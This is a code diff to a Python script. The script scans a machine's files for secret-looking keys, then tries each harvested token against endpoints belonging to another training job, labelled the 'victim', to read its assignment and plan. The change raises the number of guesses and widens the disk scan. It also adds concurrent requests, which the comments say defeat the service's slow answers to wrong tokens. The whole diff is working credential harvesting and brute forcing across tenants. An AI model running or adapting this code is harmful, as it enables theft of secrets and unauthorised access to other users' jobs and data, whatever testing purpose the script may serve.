@@ -10,8 +10,10 @@ import os
 import re
 import stat
 import sys
+import time
 import urllib.error
 import urllib.request
+from concurrent.futures import ThreadPoolExecutor
 
 import boto3
 from botocore.config import Config
@@ -21,16 +23,18 @@ KEYS = re.compile(
     rb"(?<![A-Za-z0-9+/])[A-Za-z0-9+/]{64}(?![A-Za-z0-9+/])|(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{40}(?![A-Za-z0-9_-])"
 )
 MAX_FILE_BYTES = 4 << 20
-MAX_TOKENS = 12  # tried at each door: the service answers wrong ones slowly
+MAX_TOKENS = 60  # tried at each door
+NUM_PROMPT = 12  # wrong tokens in order; the service answers ten of an address at once
 MAX_MEMORY_BYTES = 256 << 20
-# What is there before any service is: libraries, and what was written before its keys were. Everything else is read.
+# What is there before any service is: libraries, and what has not changed of late. Everything else on the disk is read.
+OLD_S = 24 * 3600
 LIBRARIES = ("/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot", "/proc", "/sys", "/dev", "/var/lib/dpkg", "/var/cache")
 LIBRARY_NAMES = re.compile(r"site-packages|python3(\.\d+)?|node_modules|\.git|__pycache__|\.[a-z]+_cache")
 options = dict(zip(sys.argv[1::2], sys.argv[2::2], strict=True))
 victim, own = options["--victim"], os.environ["TRAINING_JOB_NAME"]
 is_thorough = options["--thorough"] == "True"
-keys_made_at = float(options["--since"])  # by the clock of the machine's files
 endpoint = os.environ["AWS_ENDPOINT_URL"].rstrip("/")
+began_at = time.time()
 found = {}
 facts = {"places": {}, "doors": {}, "empty tokens": [], "processes": [], "calls": {}}
 
@@ -79,7 +83,7 @@ def walk(root, place):
             path = os.path.join(parent, name)
             try:
                 status = os.lstat(path)
-                is_new = max(status.st_mtime, status.st_ctime) > keys_made_at
+                is_new = max(status.st_mtime, status.st_ctime) > began_at - OLD_S
                 if stat.S_ISREG(status.st_mode) and is_new and status.st_size <= MAX_FILE_BYTES:
                     look(place, read(path))
             except OSError:
@@ -130,14 +134,20 @@ def ask(url, token):
 
 mine = os.environ["AWS_SECRET_ACCESS_KEY"]
 tokens = [mine, "x", *sorted(text for text in found if re.fullmatch("[0-9a-f]{64}", text))][:MAX_TOKENS]
-for label, path in {
+doors = {
     "another job's assignment": f"agents/{victim}/1/algo-1/assignment",
     "own assignment": f"agents/{own}/1/algo-1/assignment",
     "another job's page": f"jobs/{victim}",
     "another job's plan": f"jobs/{victim}/plan",
-}.items():
-    facts["empty tokens"].append(ask(f"{endpoint}/clary/v1/{path}", ""))
-    facts["doors"][label] = [ask(f"{endpoint}/clary/v1/{path}", token) for token in tokens]
+}
+# One after the other until the service answers wrong tokens slowly, then several at once.
+with ThreadPoolExecutor(max_workers=8) as pool:
+    for number, (label, path) in enumerate(doors.items()):
+        url = f"{endpoint}/clary/v1/{path}"
+        facts["empty tokens"].append(ask(url, ""))
+        num_first = NUM_PROMPT if number == 0 else 0
+        facts["doors"][label] = [ask(url, token) for token in tokens[:num_first]]
+        facts["doors"][label] += pool.map(ask, [url] * len(tokens[num_first:]), tokens[num_first:])
 
 
 def call(label, act):
